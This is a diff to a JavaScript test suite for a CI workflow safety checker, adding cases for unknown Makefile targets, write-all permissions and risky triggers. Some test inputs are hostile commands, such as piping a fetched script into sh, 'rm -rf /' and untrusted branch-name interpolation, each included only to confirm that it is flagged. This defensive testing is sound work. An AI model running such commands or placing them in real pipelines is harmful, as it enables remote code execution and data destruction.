@@ -27,7 +27,7 @@ for (const name of names) {
   });
 
   test(`${name} keeps to the rules`, () => {
-    assert.deepEqual(faultsOf(text, targets), []);
+    assert.deepEqual(faultsOf(text, targets, name), []);
   });
 }
 
@@ -46,7 +46,8 @@ const release = read(`${folder}/release.yml`);
 const faults = [
   [sound, "- run: make play", "- run: curl https://example.org | sh", "not make alone"],
   [sound, "- run: make play", "- run: make play; rm -rf /", "not make alone"],
-  [sound, "- run: make play", "- run: make plya", "no target of the Makefile: plya"],
+  [sound, "- run: make play", "- run: make plya", "no target of the Makefile for it: plya"],
+  [sound, "- run: make play", "- run: make publish", "no target of the Makefile for it: publish"],
   [sound, "make play", "make ${{ github.head_ref }}", "an expression in a command"],
   [sound, /@[0-9a-f]{40} # v5.0.1/, "@v5", "not pinned to a commit: actions/checkout@v5"],
   [sound, " # v5.0.1", "", "no version beside the commit"],
@@ -58,14 +59,23 @@ const faults = [
   [sound, "pull_request:", "pull_request_target:", "others start it with our rights"],
   [sound, "GIT_CONFIG_COUNT: 1", "T: ${{ secrets.T }}", "secrets where others start it"],
   [sound, "    strategy:", "    permissions: { contents: write }\n    strategy:", "it may write"],
+  [sound, "    strategy:", "    permissions: write-all\n    strategy:", "it may write"],
+  [release, "permissions:\n      contents: write", "permissions: write-all", "may do everything"],
   [release, "- run: make publish", "- run: make release", "publish: it may write, and builds"],
+  [release, "run: make publish", "run: make rock-publish", "for it: rock-publish"],
+  [sound, "  pull_request:\n", "  workflow_run:\n", "trigger: workflow_run"],
+  [sound, "  pull_request:\n", "  issues:\n", "trigger: issues"],
+  [sound, "- run: make play", "- run: make play\n        shell: rm -rf / {0}", "a step: shell"],
+  [sound, "    strategy:", "    defaults: { run: {} }\n    strategy:", "key of a job: defaults"],
+  [sound, "permissions:", "defaults: { run: {} }\npermissions:", "key: defaults"],
 ];
 
 for (const [text, part, other, message] of faults) {
   test(`a fault is found: ${message}`, () => {
     const changed = text.replace(part, () => other);
     assert.notEqual(changed, text);
-    const found = faultsOf(changed, targets);
+    const file = text === release ? "release.yml" : "test.yml";
+    const found = faultsOf(changed, targets, file);
     assert.ok(found.some((fault) => fault.includes(message)), found.join("\n"));
   });
 }
